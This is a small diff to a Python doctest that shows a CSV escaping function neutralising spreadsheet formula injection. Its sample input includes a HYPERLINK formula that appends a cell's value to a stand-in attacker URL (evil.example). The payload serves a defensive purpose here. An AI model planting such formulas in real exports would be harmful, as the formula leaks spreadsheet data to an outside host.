@@ -5,7 +5,7 @@ begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leadin
 LibreOffice and Google Sheets read as "this is text" (plain numbers such as a year ``-200`` are left alone: a
 spreadsheet reads them as the number they are, nothing runs).
 
-    >>> print(csv_line(["nlb:1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-200", "@SUM(A1)"]), end="")
+    >>> print(csv_line(["nlb:1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-200", "@SUM(A1)"]).rstrip())
     nlb:1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-200,'@SUM(A1)
 """
 
